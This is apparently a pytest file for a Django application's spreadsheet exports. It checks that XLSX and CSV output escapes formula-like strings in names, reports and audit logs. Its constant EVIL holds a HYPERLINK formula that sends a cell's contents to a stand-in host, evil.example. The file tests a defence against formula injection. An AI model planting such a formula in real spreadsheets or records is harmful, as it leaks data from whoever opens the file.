"""Item 4 of issue 9: every XLSX Opora writes stores strings as text; formula-like strings are escaped."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from django.core.management import call_command
from openpyxl import Workbook, load_workbook

from opora.lib import xlsx
from opora.reports.model import Column, Period, ReportDocument, ReportTable, Row, Section
from opora.reports.render.xlsx import render as render_report

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
RISKY = [EVIL, "+7 900 000", "-1+2", "@SUM(A1)", "\tTAB", "\rCR", "=1+1"]


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet"))


def assert_text_cells(data: bytes, values: list[str]) -> None:
    """No formula in the file; every given value reads back as the same string, a text cell with a quote prefix."""
    assert "<f>" not in sheet_xml(data) and "<f " not in sheet_xml(data)
    book = load_workbook(io.BytesIO(data))
    found = {}
    for ws in book.worksheets:
        for r in ws.iter_rows():
            for c in r:
                if isinstance(c.value, str):
                    found[c.value] = c
    for v in values:
        key = v.replace("\r", "\n") if v not in found and v.replace("\r", "\n") in found else v
        assert key in found, (v, list(found)[:20])
        assert found[key].data_type == "s"
        assert found[key].quotePrefix, v


@pytest.mark.parametrize("write_only", [False, True])
def test_the_writer_stores_risky_strings_as_escaped_text(write_only):
    book = Workbook(write_only=write_only)
    ws = book.create_sheet("t") if write_only else book.active
    if write_only:
        ws.append(xlsx.row(ws, [*RISKY, "plain", 5, "a\x00b"]))
    else:
        for i, v in enumerate([*RISKY, "plain", 5, "a\x00b"], start=1):
            xlsx.put(ws, 1, i, v)
    buf = io.BytesIO()
    book.save(buf)
    assert_text_cells(buf.getvalue(), [v for v in RISKY if not v.startswith("\r")])
    back = load_workbook(io.BytesIO(buf.getvalue())).worksheets[0]
    values = [c.value for c in next(back.iter_rows())]
    assert values[len(RISKY)] == "plain" and values[len(RISKY) + 1] == 5
    assert values[len(RISKY) + 2] == "ab"  # a control character XLSX cannot hold is dropped, not a crash
    assert not back.cell(1, len(RISKY) + 1).quotePrefix


def test_without_the_writer_openpyxl_would_write_a_formula():
    """The reason for the writer (if openpyxl ever changes this, the test says so)."""
    book = Workbook()
    book.active["A1"] = EVIL
    buf = io.BytesIO()
    book.save(buf)
    assert "<f>" in sheet_xml(buf.getvalue())


def test_the_people_export_escapes_a_formula_in_a_name(world):
    world.in_caseload.last_name = EVIL
    world.in_caseload.address = "@evil"
    world.in_caseload.save()
    response = world.client("director").get("/people/", {"export": "xlsx"})
    assert response.status_code == 200
    assert_text_cells(response.content, [EVIL, "@evil"])


def test_the_exchange_export_escapes_a_formula(world, tmp_path):
    world.in_caseload.last_name = EVIL
    world.in_caseload.save()
    world.home1.name = "=1+1"
    world.home1.save()
    call_command("export", str(tmp_path), "--organisation", "kcson", "--format", "xlsx", stdout=io.StringIO())
    assert_text_cells((tmp_path / "recipients.xlsx").read_bytes(), [EVIL])
    assert_text_cells((tmp_path / "departments.xlsx").read_bytes(), ["=1+1"])


def test_the_report_renderer_escapes_a_renamed_department():
    import datetime

    table = ReportTable(id="t", title="=title", label_heading="-heading",
                        columns=[Column("n", "+count", "int"), Column("c", "Comment", "text")],
                        rows=[Row("d", EVIL, {"n": 3, "c": "@note"})], note="=note")
    doc = ReportDocument(report_id="test", title="T", organisation_code="kcson", organisation_name="K",
                         period=Period(datetime.date(2020, 1, 1), datetime.date(2020, 12, 31), "2020"),
                         sections=[Section(title="S", blocks=[table])])
    data = render_report(doc)
    assert_text_cells(data, [EVIL, "=title", "-heading", "+count", "@note", "=note"])
    assert re.search(r'<c r="B4"[^>]*>\s*<v>3</v>', sheet_xml(data))  # numbers stay numbers


@pytest.mark.parametrize("text", [*RISKY, "'=1", "''+7", "'", "'abc", "Прокоп'єнко", "plain", "", "-", "'-"])
def test_the_csv_escape_is_exactly_undone_by_the_import(text):
    written = xlsx.csv_cell(text)
    assert xlsx.csv_value(written) == text
    assert not written.startswith(xlsx.FORMULA_STARTS)  # nothing a spreadsheet would run
    if not xlsx.needs_quote(text):
        assert written == text  # only what needs it is touched
    assert xlsx.csv_cell(5) == 5 and xlsx.csv_cell(None) is None


def test_the_audit_export_marks_formula_like_text_in_xlsx(world):
    import datetime

    from opora.audit import export
    from opora.audit.log import log_read

    world.in_caseload.last_name = EVIL
    world.in_caseload.save()
    log_read(world.actor("director"), [world.in_caseload], via="test")
    today = datetime.date.today()
    data = export.export(world.org.pk, today, today, "xlsx")
    shown = [c.value for r in load_workbook(io.BytesIO(data)).active.iter_rows() for c in r
             if str(c.value or "").startswith("=HYPERLINK")]
    assert shown  # the person's name as the audit row's object
    assert_text_cells(data, shown)
